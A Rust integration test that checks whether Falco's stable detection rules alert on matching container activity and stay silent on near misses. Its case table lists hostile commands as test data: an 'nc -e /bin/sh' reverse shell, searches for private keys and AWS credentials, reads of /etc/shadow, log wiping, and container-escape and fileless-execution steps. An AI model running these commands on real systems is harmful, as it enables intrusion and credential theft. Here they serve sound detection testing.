//! Falco's stable rules, unchanged, in real containers: for each something that it is about, and the same with one
//! condition not met.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use serde_json::Value;

use crate::cases::{Case, Line, alerts_of, case, lines};
use crate::container::{Container, PROGRAMS, can_run, privileged};
use crate::name_server;
use crate::sensor::{Sensor, fence};

const CASES: &[Case] = &[
    case(
        "Directory traversal monitored file read",
        &["@trigger", "read", "/var/lib/../../etc/hostname"],
        &["@trigger", "read", "/var/../etc/hostname"],
    ),
    case(
        "Read sensitive file trusted after startup",
        &["@nginx", "later", "5100", "read", "/etc/shadow"],
        &["@nginx", "read", "/etc/shadow"],
    ),
    case(
        "Read sensitive file untrusted",
        &["@trigger", "read", "/etc/shadow"],
        &["@dpkg", "read", "/etc/shadow"],
    ),
    case(
        "Run shell untrusted",
        &["@nginx", "run", "/bin/sh", "-c", "true"],
        &["@nginy", "run", "/bin/sh", "-c", "true"],
    ),
    case(
        "System user interactive",
        &["@sshd", "as", "33", "/usr/bin/id"],
        &["@sshd", "as", "4711", "/usr/bin/id"],
    ),
    case(
        "Contact K8S API Server From Container",
        &["@trigger", "connect", "198.51.100.7:6443"],
        &["@trigger", "connect", "198.51.100.8:6443"],
    ),
    case(
        "Netcat Remote Code Execution in Container",
        &["@nc", "-e", "/bin/sh", "192.0.2.1", "4444"],
        &["@nc", "-v", "192.0.2.1", "4444"],
    ),
    case(
        "Search Private Keys or Passwords",
        &["grep", "-s", "BEGIN RSA PRIVATE", "/etc/hostname"],
        &["grep", "-s", "BEGIN CERTIFICATE", "/etc/hostname"],
    ),
    case(
        "Clear Log Activities",
        &["@trigger", "truncate", "/var/log/syslog"],
        &["@trigger", "append", "/var/log/syslog"],
    ),
    case(
        "Remove Bulk Data from Disk",
        &["shred", "--iterations=0", "/var/log/syslog"],
        &["truncate", "--size=0", "/var/log/syslog"],
    ),
    case(
        "Create Symlink Over Sensitive Files",
        &["@trigger", "symlink", "/etc/shadow", "/tmp/symlink"],
        &["@trigger", "symlink", "/etc/hostname", "/tmp/other-symlink"],
    ),
    case(
        "Create Hardlink Over Sensitive Files",
        &["@trigger", "link", "/etc/shadow", "/tmp/link"],
        &["@trigger", "link", "/etc/passwd", "/tmp/other-link"],
    ),
    case(
        "Packet socket created in container",
        &["@trigger", "socket", "packet"],
        &["@trigger", "socket", "internet"],
    ),
    case(
        "Redirect STDOUT/STDIN to Network Connection in Container",
        &["@trigger", "redirect", "output"],
        &["@trigger", "redirect", "file"],
    ),
    case(
        "Linux Kernel Module Injection Detected",
        &["@trigger", "module"],
        &["@trigger", "without", "sys_module", "module"],
    ),
    case("Debugfs Launched in Privileged Container", &["@debugfs"], &["@debugfs"]),
    case(
        "Detect release_agent File Container Escapes",
        &["@trigger", "truncate", "/tmp/release_agent"],
        &["@trigger", "without", "sys_admin", "truncate", "/tmp/release_agent"],
    ),
    case(
        "PTRACE attached to process",
        &["@trigger", "ptrace", "attach"],
        &["@trigger", "ptrace", "interrupt"],
    ),
    case(
        "PTRACE anti-debug attempt",
        &["@trigger", "ptrace", "traceme"],
        &["@trigger", "ptrace", "interrupt"],
    ),
    case(
        "Find AWS Credentials",
        &["find", "/srv", "-path", "*/.aws/credentials"],
        &["find", "/srv", "-path", "*/.aws/config"],
    ),
    case(
        "Execution from /dev/shm",
        &["@trigger", "drop", "/bin/true", "/dev/shm/dropped"],
        &["@trigger", "drop", "/bin/true", "/tmp/dropped"],
    ),
    case(
        "Drop and execute new binary in container",
        &["@trigger", "drop", "/bin/true", "/srv/dropped"],
        &["@trigger", "run", "/bin/true"],
    ),
    case(
        "Disallowed SSH Connection Non Standard Port",
        &["@ssh", "meet", "198.51.100.9:443"],
        &["@ssh", "meet", "198.51.100.9:22"],
    ),
    case(
        "Fileless execution via memfd_create",
        &["@trigger", "from-memory", "/bin/true"],
        &["@trigger", "from-descriptor", "/bin/true"],
    ),
];

/// Rules whose near miss needs a container without privileges.
const UNPRIVILEGED_MISSES: &[&str] = &["Debugfs Launched in Privileged Container"];

/// What a container of runc alone has not: it comes from no image, is of no pod, and nobody logged in to it.
const NOWHERE: &[&str] = &[
    "container.image.repository",
    "container.image.tag",
    "k8s.ns.name",
    "k8s.pod.name",
    "user.loginname",
];

/// How far up there are parents, whoever starts the tests decides.
const FAR_PARENTS: &[&str] = &["proc.aname[4]", "proc.aname[5]", "proc.aname[6]", "proc.aname[7]"];

/// Fields that rules show though what they are about does not have them.
const NOT_OF_THE_RULE: &[(&str, &str)] = &[
    ("Contact K8S API Server From Container", "fd.lport"), // there is no way to that address
    ("Execution from /dev/shm", "fd.name"),
    ("Packet socket created in container", "fd.lport"),
    ("Packet socket created in container", "fd.rport"),
    ("Remove Bulk Data from Disk", "fd.name"),
];

fn is_nowhere(rule: &str, field: &str) -> bool {
    NOWHERE.contains(&field)
        || FAR_PARENTS.contains(&field)
        || NOT_OF_THE_RULE.contains(&(rule, field))
}

/// The rules of a file, by name.
fn rules(file: &Path) -> BTreeSet<String> {
    let text = fs_err::read_to_string(file).expect("rules");
    let names = text.lines().filter_map(|line| line.strip_prefix("- rule:"));
    names.map(|name| name.trim().to_owned()).collect()
}

#[test]
fn every_stable_rule_is_met_by_what_it_is_about_alone() {
    let Some(file) = bulkhead_testing::data("fixtures/falco-rules/falco_rules.yaml") else {
        return;
    };
    if !can_run() {
        return;
    }
    let server = name_server::start("kubernetes.default.svc.cluster.local", [198, 51, 100, 7]);
    let server = server.to_string();
    let Some(sensor) = Sensor::watch(&[&file], &["--name-server", &server]) else { return };
    let is_unprivileged =
        |case: &Case, meets: bool| !meets && UNPRIVILEGED_MISSES.contains(&case.rule);
    let mut seen: BTreeMap<(&str, bool), Vec<Value>> = BTreeMap::new();
    let container = Container::start("stable", &["sleep", "600"], privileged);
    let address = ["ip", "address", "add", "198.51.100.9/32", "dev", "lo"];
    container.exec(&[&[&*format!("{PROGRAMS}/busybox")], &address[..]].concat());
    let mut take = |container: &Container, lines: Vec<Line>| {
        let alerts = alerts_of(&sensor, container, &lines);
        for ((rule, meets, _), alerts) in lines.into_iter().zip(alerts) {
            seen.insert((rule, meets), alerts);
        }
    };
    take(&container, lines(CASES, |case, meets| !is_unprivileged(case, meets)));
    let plain = Container::start("plain", &["sleep", "600"], |_| {});
    take(&plain, lines(CASES, is_unprivileged));
    let terminal = "Terminal shell in container";
    container.exec_in_terminal(&["sh", "-c", "true"]);
    seen.insert((terminal, true), sensor.until(fence("in-terminal")));
    container.exec(&["sh", "-c", "true"]);
    seen.insert((terminal, false), sensor.until(fence("without-terminal")));
    let mut wrong = Vec::new();
    for rule in rules(&file) {
        for meets in [true, false] {
            let Some(alerts) = seen.get(&(rule.as_str(), meets)) else {
                // A file of another version may have rules that are not known here.
                bulkhead_testing::skip(&format!("nothing meets the rule {rule}"));
                break;
            };
            for alert in alerts.iter().filter(|alert| alert["rule"] == *rule) {
                let fields = alert["output_fields"].as_object().expect("fields");
                let absent = fields.iter().filter(|(_, value)| value.is_null());
                let absent = absent.filter(|(field, _)| !is_nowhere(&rule, field));
                wrong.extend(absent.map(|(field, _)| format!("{rule}: {field} is not known")));
            }
            let of_rule = alerts.iter().filter(|alert| alert["rule"] == *rule).count();
            if (of_rule > 0) != meets {
                let met: Vec<_> = alerts.iter().map(|alert| &alert["rule"]).collect();
                wrong.push(format!("{rule}: {of_rule} alerts, expected {meets}: {met:?}"));
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong:#?}\n{}", sensor.said());
}
